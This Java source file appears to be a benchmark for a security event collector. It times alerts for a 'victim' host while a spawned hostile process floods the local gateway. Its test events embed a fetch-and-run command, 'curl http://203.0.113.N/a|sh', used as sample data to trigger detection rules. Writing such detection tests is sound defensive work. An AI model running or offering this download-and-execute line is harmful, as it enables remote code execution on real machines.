package bzh.vigie.collector.gateway;

import bzh.vigie.collector.IngestFeed;
import bzh.vigie.collector.detect.Detectors;
import bzh.vigie.collector.detect.Pipeline;
import bzh.vigie.collector.detect.Quarantine;
import bzh.vigie.collector.detect.ShippedRules;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.finding.Ruling;
import bzh.vigie.collector.detect.sigma.CompiledRules;
import bzh.vigie.collector.detect.sigma.RuleSet;
import bzh.vigie.collector.host.Forgetting;
import bzh.vigie.collector.host.HostDecision;
import bzh.vigie.collector.ingest.IngestLog;
import bzh.vigie.collector.store.Alerts.Numbered;
import bzh.vigie.collector.store.EventHistory;
import bzh.vigie.collector.store.Hosts.Host;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.lucene.LuceneHistory;
import bzh.vigie.event.Item;
import bzh.vigie.wire.EventCodec;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.function.ToDoubleFunction;
import java.util.stream.Stream;

/**
 * Time from a batch of one host to its alert, over connection, ingest log, detection and store, while nobody floods and while another host of its commune is
 * at its worst in each resource, and in all at once. Medians of as many batches each, and their ratio to the quiet one. A collector has run for long when it is
 * flooded: the same flood comes first, untold, until Java's compiler is done with it, so that quiet and flooded are of the same compiled code.
 */
final class FloodFigures extends GatewayBench {
    private static final String ALL = "ALL_AT_ONCE";
    /** Every kind of content over the sessions that it may have, and connections, hellos and halves of frames beside. */
    private static final Flood.Attack[] AT_ONCE = {
        Flood.Attack.EVERY_CONTENT, Flood.Attack.CONNECTIONS, Flood.Attack.HELLOS, Flood.Attack.BYTES_IN_FLIGHT
    };

    private static final int ROUNDS = 21;
    private static final int RUNS = Integer.getInteger("flood.runs", 3);
    private static final int WARM_UPS = 5;
    private static final int WARM_UP_MILLIS = 2_000;
    /** Share of the time that Java's compiler may take of a collector that is warm, so often in a row. */
    private static final double COMPILING = 0.05;

    private static final int IN_A_ROW = 3;
    private static final Duration MOST_WARMING = Duration.ofMinutes(4);

    private int victims;
    private int agents;

    private long alerts(long after, Enrolled victim) {
        return store.read(session -> session.alerts().after(new Scope.All(), after, 1_000)).stream()
                .filter(each -> each.alert().host().equals(victim.id()))
                .mapToLong(Numbered::sequence)
                .max()
                .orElse(after);
    }

    /** Milliseconds from a batch of the victim to its acknowledgement, and to its alert. */
    private record Wait(double acknowledged, double alerted) {}

    /** From a batch of the victim to its alert, some times. */
    private List<Wait> waits() throws IOException, InterruptedException {
        Enrolled victim = enrolled("mairie-" + ++victims);
        List<Wait> waits = new ArrayList<>();
        long last = store.read(session -> session.alerts().last());
        try (TestClient client = open(victim, 1)) {
            for (int round = 1; round <= ROUNDS; round++) {
                byte[] content = EventCodec.encode(List.of(Flood.seen(
                        clock.instant(),
                        "victim-" + victims + "-" + round,
                        "curl http://203.0.113." + round + "/a|sh",
                        Item.Trait.NETWORK_TOOL,
                        Item.Trait.INLINE_SCRIPT)));
                long begun = System.nanoTime();
                client.send(batch(round, content));
                client.acknowledged();
                double acknowledged = (System.nanoTime() - begun) / 1e6;
                long now = alerts(last, victim);
                while (now == last) {
                    Thread.sleep(1);
                    now = alerts(last, victim);
                }
                last = now;
                waits.add(new Wait(acknowledged, (System.nanoTime() - begun) / 1e6));
                Thread.sleep(50);
            }
        }
        return waits;
    }

    private Path write(Enrolled agent) throws IOException {
        Path file = dir.resolve(agent.id().text() + ".p12");
        try (OutputStream out = Files.newOutputStream(file)) {
            KeyStore store = KeyStore.getInstance("PKCS12");
            store.load(null, null);
            store.setKeyEntry("agent", agent.identity().pair().getPrivate(), new char[0], new X509Certificate[] {
                agent.identity().certificate()
            });
            store.store(out, new char[0]);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("a key of our own", e);
        }
        return file;
    }

    /** While a hostile agent does all that, in a process of its own. */
    private List<Wait> waitsDuring(boolean isWarm, Flood.Attack... attacks) throws IOException, InterruptedException {
        Enrolled hostile = enrolled("hostile-" + ++agents);
        List<String> command =
                new ArrayList<>(List.of(System.getProperty("flood.bound", "").split(" ")));
        command.removeIf(String::isEmpty);
        command.addAll(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx512m",
                "-XX:+UseSerialGC",
                "--enable-native-access=ALL-UNNAMED",
                "-cp",
                System.getProperty("java.class.path"),
                Flood.class.getName(),
                Integer.toString(gateway.address().getPort()),
                write(hostile).toString(),
                hostile.id().text(),
                clock.instant().toString()));
        Arrays.stream(attacks).map(Enum::name).forEach(command::add);
        Process flood = new ProcessBuilder(command)
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
        try (BufferedReader said = flood.inputReader(StandardCharsets.UTF_8)) {
            if (!"ready".equals(said.readLine())) {
                throw new IllegalStateException("the flood did not begin");
            }
            Thread.sleep(WARM_UP_MILLIS);
            List<Wait> waits = isWarm ? waits() : warm();
            flood.getOutputStream().close();
            System.out.println("    " + said.readLine());
            return waits;
        } finally {
            flood.destroy();
            flood.waitFor();
            // Nobody waits for what is left of it.
            store.change(session -> {
                Host host = session.hosts().find(hostile.id()).orElseThrow();
                HostDecision.REVOKE.on(session, host, clock.instant(), ANNA);
                Forgetting.decide(session, host, ANNA);
            });
        }
    }

    /** Waits of the last series, repeated until Java's compiler has little left to do. */
    private List<Wait> warm() throws IOException, InterruptedException {
        long first = System.nanoTime();
        List<Wait> waits = List.of();
        double compiling = 1;
        for (int warm = 0; warm < IN_A_ROW && System.nanoTime() - first < MOST_WARMING.toNanos(); ) {
            long begun = System.nanoTime();
            long before = compiled();
            waits = waits();
            compiling = (compiled() - before) * 1e6 / (System.nanoTime() - begun);
            warm = compiling < COMPILING ? warm + 1 : 0;
        }
        System.out.printf(
                Locale.ROOT,
                "    flooded for %d s before; the compiler took %.2f of the last of it%n",
                (System.nanoTime() - first) / 1_000_000_000,
                compiling);
        return waits;
    }

    /** Milliseconds that Java's compiler took so far. */
    private static long compiled() {
        return ManagementFactory.getCompilationMXBean().getTotalCompilationTime();
    }

    private static double median(List<Wait> waits, ToDoubleFunction<Wait> of) {
        return waits.stream().mapToDouble(of).sorted().toArray()[waits.size() / 2];
    }

    /** Each time beside a quiet one, since the machine may be another's too. */
    private void tell(String what, Flood.Attack... attacks) throws IOException, InterruptedException {
        waitsDuring(false, attacks);
        for (int run = 0; run < RUNS; run++) {
            while (store.read(session -> session.progress().position(IngestLog.NAME))
                            .orElse(0)
                    < log.last()) {
                // What the last flood left.
                Thread.sleep(50);
            }
            Thread.sleep(WARM_UP_MILLIS);
            long atFirst = compiled();
            List<Wait> quiet = waits();
            long between = compiled();
            List<Wait> flooded = waitsDuring(true, attacks);
            System.out.printf(
                    Locale.ROOT,
                    "%-16s quiet %7.1f ms   flooded %7.1f ms   worst %7.1f ms   ratio of medians %5.2f"
                            + "   (acknowledged after %.1f and %.1f ms; compiler %d and %d ms)%n",
                    what,
                    median(quiet, Wait::alerted),
                    median(flooded, Wait::alerted),
                    flooded.stream().mapToDouble(Wait::alerted).max().orElse(0),
                    median(flooded, Wait::alerted) / median(quiet, Wait::alerted),
                    median(quiet, Wait::acknowledged),
                    median(flooded, Wait::acknowledged),
                    between - atFirst,
                    compiled() - between);
        }
    }

    private void measure(List<String> attacks) throws IOException, InterruptedException {
        RuleSet rules = ShippedRules.load();
        Ruling ruling = new Ruling(new CompiledRules(rules.rules()), rules.correlations(), rules.onlyCorrelated());
        Cards cards = new Cards(rules.detectors());
        try (EventHistory history = LuceneHistory.open(dir.resolve("history"), 16)) {
            Pipeline pipeline = new Pipeline(
                    new IngestFeed(log),
                    store,
                    history,
                    () -> ruling,
                    cards,
                    Detectors.all(() -> ruling, cards, Duration.ofHours(1), host -> {}),
                    new Quarantine(dir.resolve("quarantine")),
                    shares,
                    ManagementFactory.getThreadMXBean()::getCurrentThreadCpuTime,
                    clock);
            Thread detection = Thread.ofPlatform().start(() -> {
                try {
                    pipeline.run();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            for (int i = 0; i < WARM_UPS; i++) {
                waits();
            }
            for (String what : attacks) {
                tell(what, what.equals(ALL) ? AT_ONCE : new Flood.Attack[] {Flood.Attack.valueOf(what)});
            }
            pipeline.close();
            detection.join();
        }
    }

    private static List<String> all() {
        return Stream.concat(Arrays.stream(Flood.Attack.values()).map(Enum::name), Stream.of(ALL))
                .toList();
    }

    public static void main(String[] arguments) throws IOException, InterruptedException {
        FloodFigures figures = new FloodFigures();
        figures.dir = Files.createTempDirectory("floods");
        figures.open();
        try {
            figures.measure(arguments.length == 0 ? all() : List.of(arguments));
        } finally {
            figures.close();
        }
    }
}
